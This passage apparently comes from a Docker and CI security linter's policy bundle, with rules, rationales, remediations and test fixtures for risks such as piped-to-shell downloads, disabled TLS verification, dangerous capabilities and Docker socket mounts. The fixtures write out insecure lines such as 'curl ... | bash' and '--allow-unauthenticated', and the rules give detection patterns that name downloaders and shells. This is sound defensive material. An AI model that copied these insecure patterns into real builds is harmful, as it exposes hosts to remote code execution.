[\\"chmod\\", \\"4755\\", \\"/usr/local/bin/backup\\"]\\nRUN chmod a+rw /etc/app.conf\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":49},{"line":3,"column":1,"endLine":3,"endColumn":36},{"line":4,"column":1,"endLine":4,"endColumn":47},{"line":5,"column":1,"endLine":5,"endColumn":29}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nRUN mkdir -p /app/tmp && chmod 1777 /app/tmp \\\\\\n && chmod 755 /usr/local/bin/entrypoint.sh \\\\\\n && chmod go-w /etc/app.conf \\\\\\n && chmod a-s /usr/bin/newgrp \\\\\\n && chmod u+x,g+x /usr/local/bin/run\\n","expect":[]}],"source":"policies/docker/command-chmod-insecure.yaml"},{"id":"command-download-piped-to-shell","pack":"docker","title":"Downloaded script piped straight into a shell","severity":"medium","subject":"command","schema":{"allOf":[{"if":{"properties":{"name":{"enum":{"$param":"downloaders"}}}},"then":{"properties":{"pipedTo":{"not":{"enum":{"$param":"shells"}}}}}},{"if":{"properties":{"name":{"enum":["sh","bash","dash","ash","zsh","ksh","mksh","eval"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"substitutedDownload"}}}}}}}]},"message":"`{{subject.name}}` runs a script fetched from the network without checking it, so whoever controls that URL (or the connection) runs code here, with this build\'s or job\'s access. Download to a file, verify its checksum or signature, then run it, or install the tool from a package with a pinned version.","rationale":"`curl \u2026 | sh` executes whatever the server returns at that moment: a compromised or hijacked host, a changed install script or a truncated download runs with the privileges of the build (root, in most Dockerfiles) or of the CI job (with its token and secrets). Nothing in the repository records what ran, so the result cannot be reproduced or audited. The CIS Docker Benchmark (4.11) asks that only verified packages be installed, and the OWASP cheat sheet (rule 9) treats unverified downloads as a supply-chain risk.","remediation":"Fetch a pinned version to a file, check it against a published digest, then run it:\\n\\n```dockerfile\\nARG INSTALLER_SHA256=<sha256 of install.sh at v1.2.0>\\nRUN curl -fsSLo /tmp/install.sh https://example.com/v1.2.0/install.sh \\\\\\n && echo \\"${INSTALLER_SHA256}  /tmp/install.sh\\" | sha256sum -c - \\\\\\n && sh /tmp/install.sh && rm /tmp/install.sh\\n```\\n\\nBetter still, install the tool from the distribution\'s package manager or copy it from a\\npinned image (`COPY --from=ghcr.io/example/tool:1.2.0@sha256:\u2026 /tool /usr/local/bin/`).","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"owasp-docker","id":"RULE #9"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#run"}],"params":{"downloaders":["curl","wget"],"shells":["sh","bash","dash","ash","zsh","ksh","mksh","python","python3","perl","ruby","node","php"],"substitutedDownload":"^\\\\$\\\\((curl|wget)\\\\s"},"paramSchemas":{"downloaders":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Programs that download a URL (command names, as the command subject gives them)."},"shells":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Interpreters that run what they read on standard input (or in `-c \\"$(\u2026)\\"`)."},"substitutedDownload":{"schema":{"type":"string","format":"regex","minLength":1},"description":"An argument that runs a download\'s output: `sh -c \\"$(curl \u2026)\\"`, `eval \\"$(wget -O- \u2026)\\"`."}},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && curl -fsSL https://deb.nodesource.com/setup_22.x | bash - \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN wget -qO- https://get.example.com/install.sh | sudo sh\\nRUN sh -c \\"$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)\\"\\n","expect":[{"line":3,"column":2,"endLine":3,"endColumn":62},{"line":5,"column":1,"endLine":5,"endColumn":59},{"line":6,"column":1,"endLine":6,"endColumn":100}]},{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN curl -fsSLo /tmp/install.sh https://example.com/v1.2.0/install.sh \\\\\\n && echo \\"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef  /tmp/install.sh\\" | sha256sum -c - \\\\\\n && sh /tmp/install.sh\\nRUN curl -fsSL https://example.com/data.json | jq .version\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  lint:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b /usr/local/bin\\n          golangci-lint run\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":125}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  lint:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -fsSL https://api.github.com/repos/example/app/releases/latest | jq -r .tag_name\\n","expect":[]}],"source":"policies/docker/command-download-piped-to-shell.yaml"},{"id":"command-tls-verification-disabled","pack":"docker","title":"Command turns off TLS certificate or package signature checks","severity":"medium","subject":"command","schema":{"allOf":[{"if":{"properties":{"name":{"const":"curl"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(--insecure$|-[a-zA-Z]*k)"}}}}}},{"if":{"properties":{"name":{"const":"wget"}}},"then":{"properties":{"args":{"items":{"not":{"const":"--no-check-certificate"}}}}}},{"if":{"properties":{"name":{"enum":["apt-get","apt","aptitude"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--(allow-unauthenticated|allow-insecure-repositories|force-yes)$|Verify-(Peer|Host)=(false|0)$|AllowUnauthenticated=(true|1)$"}}}}}},{"if":{"properties":{"name":{"enum":["yum","dnf","microdnf","tdnf","zypper"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--(nogpgcheck|no-gpg-checks)$|^--setopt=(sslverify|gpgcheck|repo_gpgcheck)=(0|false|False)$"}}}}}},{"if":{"properties":{"name":{"const":"rpm"}}},"then":{"properties":{"args":{"items":{"not":{"enum":["--nosignature","--nodigest"]}}}}}},{"if":{"properties":{"name":{"const":"apk"}}},"then":{"properties":{"args":{"items":{"not":{"const":"--allow-untrusted"}}}}}},{"if":{"properties":{"name":{"enum":["pip","pip3","python","python3","uv"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--trusted-host(=|$)"}}}}}},{"if":{"properties":{"name":{"enum":["npm","yarn","pnpm"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(--)?strict-ssl(=false)?$"}}}}}},{"if":{"properties":{"name":{"const":"git"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^http\\\\..*[sS][sS][lL][vV][eE][rR][iI][fF][yY](=(false|0|no|off))?$"}}}}}}]},"message":"`{{subject.name}}` is told to skip certificate or signature checks (`{{value}}`), so anyone who can intercept or spoof the server can hand it different code or packages. Remove the option and fix the trust problem instead: install the CA certificate, or import the repository\'s signing key.","rationale":"TLS certificates and package signatures are what tie a download to its publisher. Options such as `curl -k`, `wget --no-check-certificate`, `apt-get --allow-unauthenticated`, `--nogpgcheck`, `apk --allow-untrusted`, `pip --trusted-host`, npm\'s `strict-ssl false` and git\'s `http.sslVerify=false` accept whatever answers, which turns a network position (a proxy, a rogue Wi-Fi, a poisoned DNS entry, a compromised mirror) into code execution in the image or the CI job. The CIS Docker Benchmark (4.11) asks that only verified packages be installed.","remediation":"Keep verification on and give the tool what it needs to verify:\\n\\n```dockerfile\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/corp-root-ca.crt\\nRUN update-ca-certificates \\\\\\n && curl -fsSLo /tmp/tool.tgz https://tools.example.com/tool-1.2.0.tgz\\n```\\n\\nFor a third-party package repository, import its signing key (`signed-by=` in the apt source)\\ninstead of allowing unauthenticated packages.","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN curl -fsSLk https://tools.example.com/tool.tgz -o /tmp/tool.tgz \\\\\\n && wget --no-check-certificate -q https://example.com/a.tgz\\nRUN apt-get install -y --allow-unauthenticated internal-agent\\nRUN pip install --trusted-host pypi.example.com internal-lib==1.0\\nRUN git -c http.sslVerify=false clone https://git.example.com/app.git\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":68},{"line":3,"column":2,"endLine":3,"endColumn":61},{"line":4,"column":1,"endLine":4,"endColumn":62},{"line":5,"column":1,"endLine":5,"endColumn":66},{"line":6,"column":1,"endLine":6,"endColumn":70}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache --allow-untrusted /tmp/pkgs/*.apk\\nRUN npm config set strict-ssl false\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":57},{"line":3,"column":1,"endLine":3,"endColumn":36}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN curl -fsSL -o /tmp/tool.tgz https://tools.example.com/tool.tgz \\\\\\n && git -c http.sslVerify=true clone https://github.com/example/app.git\\nRUN apt-get install -y --no-install-recommends ca-certificates\\nRUN pip install --no-cache-dir requests==2.32.3\\nRUN sort -k 2 /etc/passwd\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          curl --insecure -fsSL https://staging.example.com/healthz\\n          git -c http.sslVerify=true fetch origin\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":68}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -fsSL --cacert ./ca.pem https://staging.example.com/healthz\\n","expect":[]}],"source":"policies/docker/command-tls-verification-disabled.yaml"},{"id":"container-capabilities-not-dropped","pack":"docker","title":"Container keeps Docker\'s default capabilities (no cap_drop ALL)","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"cap_drop":{"not":{"items":{"not":{"const":"ALL"}}}}}},"message":"{{name}} keeps Docker\'s default capabilities (CHOWN, DAC_OVERRIDE, FOWNER, SETUID, NET_RAW, \u2026), which a compromised process can use to change file ownership, switch users or craft raw packets. Add `cap_drop: [ALL]` and add back with `cap_add` only what the service needs.","rationale":"Docker grants every container fourteen capabilities by default, chosen for compatibility, not for any particular workload. Most services need none or one of them (`NET_BIND_SERVICE` for a port below 1024). `NET_RAW` alone allows ARP and DNS spoofing on the container network, and `DAC_OVERRIDE`, `FOWNER`, `SETUID` and `SETGID` make a compromise inside the container easier to turn into root. The CIS Docker Benchmark and the OWASP cheat sheet ask to drop every capability and add back only the required ones. Informational by default: images that switch users or change file ownership at start-up need a few capabilities added back, which takes testing.","remediation":"Drop all capabilities and add back only what the service needs:\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n```\\n\\nShared hardening can live in an `x-` block merged into every service with `<<: *hardening`.","references":[{"framework":"cis-docker","id":"1.6.0:5.4"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    cap_drop: [NET_RAW]\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":24}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  cap_drop: [all]\\nservices:\\n  api:\\n    <<: *hardening\\n    image: ghcr.io/example/api:1.4.2\\n  web:\\n    image: nginx:1.27\\n    cap_drop:\\n      - ALL\\n    cap_add:\\n      - NET_BIND_SERVICE\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2\\n    services:\\n      db:\\n        image: postgres:16\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-capabilities-not-dropped.yaml"},{"id":"container-cgroup-host","pack":"docker","title":"Container uses the host\'s cgroup namespace or a custom cgroup parent","severity":"medium","subject":"container","schema":{"properties":{"cgroup":{"not":{"const":"host"}},"cgroup_parent":false}},"message":"{{name}} sets `{{key}}`, which takes it out of the cgroup Docker manages for it, so its resource limits and accounting depend on a cgroup outside Docker\'s control (or, with `cgroup: host`, it sees the host\'s whole cgroup tree). Remove the setting unless the host\'s cgroup layout was designed for it.","rationale":"Docker places each container in its own cgroup under the daemon\'s parent, which is where its memory, CPU and PID limits are enforced. `cgroup_parent` moves it under another cgroup whose limits this file does not show, and `cgroup: host` shares the host\'s cgroup namespace, exposing every host cgroup to the container (and, with a writable cgroupfs, a known escape path). The CIS Docker Benchmark (5.25) asks that cgroup usage be confirmed and that the default be kept.","remediation":"Remove `cgroup_parent` and `cgroup: host` (or `--cgroup-parent`, `--cgroupns host`) and let\\nDocker manage the container\'s cgroup; set limits with `mem_limit`, `cpus` and `pids_limit`:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    cgroup: private\\n    mem_limit: 512m\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.25"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#cgroup"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  monitor:\\n    image: ghcr.io/example/monitor:1.0.0\\n    cgroup: host\\n  batch:\\n    image: ghcr.io/example/batch:1.0.0\\n    cgroup_parent: /batch.slice\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":17},{"line":7,"column":5,"endLine":7,"endColumn":32}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    cgroup: private\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm --cgroupns=host ghcr.io/example/monitor:1.0.0\\n          docker run --rm --cgroup-parent /ci.slice alpine:3.20 true\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":72},{"line":8,"column":11,"endLine":8,"endColumn":69}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      monitor:\\n        image: ghcr.io/example/monitor:1.0.0\\n        options: --cgroupns host\\n    steps:\\n      - run: npm test\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":33}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cgroupns private\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/docker/container-cgroup-host.yaml"},{"id":"container-confinement-disabled","pack":"docker","title":"Container runs without seccomp, AppArmor or SELinux confinement","severity":"high","subject":"container","schema":{"properties":{"security_opt":{"items":{"not":{"pattern":{"$param":"disablingOptions"}}}}}},"message":"{{name}} switches off a kernel security layer with `{{value}}`, so an exploit inside it meets none of the system-call or mandatory-access-control filtering Docker applies by default. Remove the option; if the default profile blocks something the workload needs, write a custom profile that allows just that.","rationale":"Docker confines every container with a seccomp filter that blocks dangerous system calls, an AppArmor profile (`docker-default`) or an SELinux label, and masks sensitive `/proc` and `/sys` paths. These layers are what stop many kernel exploits and container escapes even when the process runs as root. `seccomp=unconfined`, `apparmor=unconfined`, `label=disable` and `systempaths=unconfined` each remove one of them for the whole container. The CIS Docker Benchmark and the OWASP cheat sheet ask that the default profiles stay on.","remediation":"Remove the option. If a system call or file access is genuinely needed, start from Docker\'s\\ndefault profile and allow only that:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    security_opt:\\n      - seccomp=./seccomp/app.json   # the default profile plus the one syscall needed\\n      - no-new-privileges=true\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.22"},{"framework":"cis-docker","id":"1.6.0:5.2"},{"framework":"cis-docker","id":"1.6.0:5.3"},{"framework":"owasp-docker","id":"RULE #6"},{"framework":"url","url":"https://docs.docker.com/engine/security/seccomp/"},{"framework":"url","url":"https://docs.docker.com/engine/security/apparmor/"}],"params":{"disablingOptions":"^(seccomp|apparmor|systempaths)=\\\\s*unconfined$|^label=\\\\s*disable$"},"paramSchemas":{"disablingOptions":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Security options that switch seccomp, AppArmor or SELinux confinement off. Matched against `security_opt` entries, which the container subject normalizes to `key=value` (`seccomp:unconfined` becomes `seccomp=unconfined`)."}},"tests":[{"file":"compose.yaml","content":"services:\\n  chrome:\\n    image: browserless/chrome:1.61\\n    security_opt:\\n      - no-new-privileges:true\\n      - seccomp:unconfined\\n      - \\"apparmor=unconfined\\"\\n      - label:disable\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":27},{"line":7,"column":9,"endLine":7,"endColumn":30},{"line":8,"column":9,"endLine":8,"endColumn":22}]},{"file":"compose.yaml","content":"x-unconfined: &unconfined\\n  security_opt: [seccomp=unconfined]\\nservices:\\n  builder:\\n    <<: *unconfined\\n    image: moby/buildkit:v0.16.0\\n","expect":[{"line":2,"column":18,"endLine":2,"endColumn":36}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    security_opt:\\n      - no-new-privileges:true\\n      - seccomp=./seccomp/app.json\\n      - apparmor=docker-default\\n      - label=type:svirt_apache_t\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  browser-tests:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: mcr.microsoft.com/playwright:v1.48.0-noble\\n      options: --security-opt seccomp=unconfined --ipc private\\n    steps:\\n      - run: npx playwright test\\n","expect":[{"line":7,"column":7,"endLine":7,"endColumn":63}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm --security-opt apparmor:unconfined \\\\\\n            --security-opt label=disable moby/buildkit:v0.16.0 --version\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":63},{"line":7,"column":11,"endLine":7,"endColumn":63}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --security-opt no-new-privileges --security-opt seccomp=${{ inputs.profile }}\\n    steps:\\n      - run: docker run --rm --security-opt seccomp=/etc/docker/seccomp.json alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-confinement-disabled.yaml"},{"id":"container-dangerous-capability","pack":"docker","title":"Container adds a dangerous Linux capability","severity":"high","subject":"container","schema":{"properties":{"cap_add":{"items":{"not":{"enum":{"$param":"dangerousCapabilities"}}}}}},"message":"{{name}} adds the {{value}} capability, which lets a compromised process reach past the container into the host kernel. Remove it, or replace it with the narrow capability the workload actually needs after `cap_drop: [ALL]`.","rationale":"Docker starts containers with a short list of capabilities and withholds the ones that act on the whole machine. `ALL` and `SYS_ADMIN` come close to privileged mode (mounting filesystems, escaping through cgroups); `SYS_MODULE` loads kernel code; `SYS_PTRACE` reads and alters other processes; `DAC_READ_SEARCH` opens any host file by handle (the \\"shocker\\" escape); `SYS_RAWIO`, `SYS_BOOT` and `SYS_TIME` touch devices, reboots and the host clock; `NET_ADMIN` reconfigures interfaces, routes and firewall rules; `BPF` and `PERFMON` load and observe kernel programs; `MAC_ADMIN`/`MAC_OVERRIDE` change or bypass AppArmor and SELinux; `SYSLOG` and `LINUX_IMMUTABLE` affect host logs and file flags. The CIS Docker Benchmark and the OWASP cheat sheet both ask to add only the capabilities a workload needs; the list is the `dangerousCapabilities` parameter.","remediation":"Drop every capability and add back only the specific one the process needs:\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n```\\n\\nFor a workflow\'s `options:` or a `docker run`, write `--cap-drop ALL --cap-add NET_BIND_SERVICE`.\\nA VPN or network tool that truly needs `NET_ADMIN` belongs on a dedicated host, not next to\\napplication services.","references":[{"framework":"cis-docker","id":"1.6.0:5.4"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"},{"framework":"url","url":"https://docs.docker.com/engine/security/#linux-kernel-capabilities"}],"params":{"dangerousCapabilities":["ALL","SYS_ADMIN","NET_ADMIN","SYS_MODULE","SYS_PTRACE","SYS_RAWIO","SYS_BOOT","SYS_TIME","DAC_READ_SEARCH","BPF","PERFMON","MAC_ADMIN","MAC_OVERRIDE","SYSLOG","LINUX_IMMUTABLE"]},"paramSchemas":{"dangerousCapabilities":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Capabilities that act on the whole host. Upper case, without the CAP_ prefix: the container subject normalizes `cap_sys_admin`, `CAP_SYS_ADMIN` and `SYS_ADMIN` to `SYS_ADMIN`."}},"tests":[{"file":"compose.yaml","content":"services:\\n  vpn:\\n    image: qmcgaw/gluetun:v3.39\\n    cap_add:\\n      - NET_BIND_SERVICE\\n      - CAP_sys_admin\\n      - net_admin\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":22},{"line":7,"column":9,"endLine":7,"endColumn":18}]},{"file":"compose.yaml","content":"x-caps: &caps\\n  cap_add: [ALL]\\nservices:\\n  tool:\\n    <<: *caps\\n    image: alpine:3.20\\n","expect":[{"line":2,"column":13,"endLine":2,"endColumn":16}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: golang:1.23\\n      options: --cap-add=SYS_PTRACE --cap-add CAP_NET_RAW\\n    services:\\n      fuse:\\n        image: ghcr.io/example/fuse:1.0.0\\n        options: --cap-add SYS_ADMIN --device /dev/fuse\\n    steps:\\n      - run: go test ./...\\n","expect":[{"line":7,"column":7,"endLine":7,"endColumn":58},{"line":11,"column":9,"endLine":11,"endColumn":56}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - run: |\\n          docker run --rm --cap-add ALL alpine:3.20 true\\n          docker run --rm --cap-drop ALL --cap-add NET_BIND_SERVICE nginx:1.27\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":57}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      web:\\n        image: nginx:1.27\\n        options: --cap-drop ALL --cap-add NET_BIND_SERVICE --cap-add ${{ matrix.cap }}\\n    steps:\\n      - run: docker run --rm --cap-add CHOWN alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-dangerous-capability.yaml"},{"id":"container-default-bridge-network","pack":"docker","title":"Container uses Docker\'s default bridge network","severity":"low","subject":"container","schema":{"properties":{"network_mode":{"not":{"const":"bridge"}}}},"message":"{{name}} is attached to the default `bridge` network (docker0), where every container can reach every other container started the same way, and names do not resolve. Remove `network_mode: bridge` so Compose puts it on the project\'s own network, or attach it to a user-defined network.","rationale":"The default bridge network is shared by every container started without a network: they can all talk to each other on any port, with no isolation between unrelated applications, and the network offers no DNS between containers (which encourages the deprecated `--link`). User-defined networks isolate groups of containers and resolve names. The CIS Docker Benchmark (5.30) asks that docker0 not be used; the OWASP cheat sheet (rule 5) asks to isolate containers with networks.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    networks: [backend]\\nnetworks:\\n  backend: {}\\n```\\n\\nFor `docker run`, create a network once (`docker network create app`) and pass `--network app`.","references":[{"framework":"cis-docker","id":"1.6.0:5.30"},{"framework":"owasp-docker","id":"RULE #5"},{"framework":"url","url":"https://docs.docker.com/engine/network/drivers/bridge/#differences-between-user-defined-bridges-and-the-default-bridge"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    network_mode: bridge\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":25}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    networks: [backend]\\nnetworks:\\n  backend: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --network bridge\\n    steps:\\n      - run: |\\n          docker run -d --net=bridge nginx:1.27\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":34},{"line":11,"column":11,"endLine":11,"endColumn":48}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker network create e2e\\n          docker run -d --network e2e nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-default-bridge-network.yaml"},{"id":"container-docker-socket","pack":"docker","title":"Docker socket mounted into a container","severity":"critical","subject":"container","schema":{"properties":{"use_api_socket":{"not":{"const":true}},"volumes":{"items":{"not":{"required":["source"],"properties":{"source":{"pattern":{"$param":"socketPaths"}}}}}}}},"message":"{{name}} mounts the Docker socket: any process in it can start a privileged container and so owns the host, and `:ro` does not prevent that. Remove the mount; if the service must talk to Docker, put an authorizing proxy in front of a TLS-protected daemon.","rationale":"The Docker daemon runs as root and its socket is its whole API. A container that can reach the socket can create a new container that is privileged and mounts the host\'s root filesystem, which is root on the host. Mounting the socket read-only changes nothing: API calls are writes to the socket whatever the mount mode. Compose\'s `use_api_socket: true` grants the same access.","remediation":"Remove the socket mount. If the service genuinely manages containers (a CI runner, a reverse\\nproxy that reads labels), run it against a socket proxy that allows only the API calls it needs,\\nor a rootless daemon, and never in a service that handles untrusted input.\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: traefik:v3.1\\n    # volumes:\\n    #   - /var/run/docker.sock:/var/run/docker.sock   # removed\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.32"},{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/#docker-daemon-attack-surface"}],"params":{"socketPaths":"^(/var)?/run/docker\\\\.sock/?$"},"paramSchemas":{"socketPaths":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A host path (as written) that is the Docker daemon socket."}},"tests":[{"file":"compose.yaml","content":"services:\\n  traefik:\\n    image: traefik:v3.1\\n    volumes:\\n      - ./traefik.yml:/etc/traefik/traefik.yml:ro\\n      - /var/run/docker.sock:/var/run/docker.sock:ro\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":53}]},{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: portainer/agent:2.21\\n    volumes:\\n      - type: bind\\n        source: /run/docker.sock\\n        target: /var/run/docker.sock\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  builder:\\n    image: docker:27-cli\\n    use_api_socket: true\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":25}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    volumes:\\n      - ./html:/usr/share/nginx/html:ro\\n      - cache:/var/cache/nginx\\nvolumes:\\n  cache: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: docker:27-cli\\n      options: -v /var/run/docker.sock:/var/run/docker.sock\\n    steps:\\n      - run: docker ps\\n","expect":[{"line":7,"column":7,"endLine":7,"endColumn":60}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      volumes:\\n        - /tmp/cache:/cache\\n    steps:\\n      - run: npm ci\\n","expect":[]}],"source":"policies/docker/container-docker-socket.yaml"},{"id":"container-host-device","pack":"docker","title":"Host device exposed to a container","severity":"medium","subject":"container","schema":{"properties":{"devices":{"items":false}}},"message":"{{name}} is given the host device `{{value}}`, so processes in it talk to that hardware or kernel interface directly, outside the container\'s isolation. Remove the device unless the service truly drives it, and then pass only that one device with the narrowest permissions (`:r` or `:rw`, not `:rwm`).","rationale":"A device node is a direct line into a kernel driver. Block devices expose the host\'s disks (mount `/dev/sda1` and read or change the host\'s files), `/dev/mem` and `/dev/kmsg` expose kernel memory and logs, and even a FUSE or GPU device widens the kernel attack surface that a compromised process can reach. The CIS Docker Benchmark (5.18) asks that host devices not be exposed to containers directly, and that when one must be, its permissions be limited.","remediation":"Remove the device. If the workload genuinely needs one (a GPU, a serial adapter), pass exactly\\nthat device, read-only where possible, and keep the service on a dedicated host:\\n\\n```yaml\\nservices:\\n  reader:\\n    image: ghcr.io/example/serial-reader:1.0.0\\n    devices:\\n      - \\"/dev/ttyUSB0:/dev/ttyUSB0:r\\"   # this one device, no mknod\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.18"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/run/#device"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  backup:\\n    image: ghcr.io/example/backup:3.1.0\\n    devices:\\n      - /dev/sda:/dev/xvda:rwm\\n      - source: /dev/fuse\\n        target: 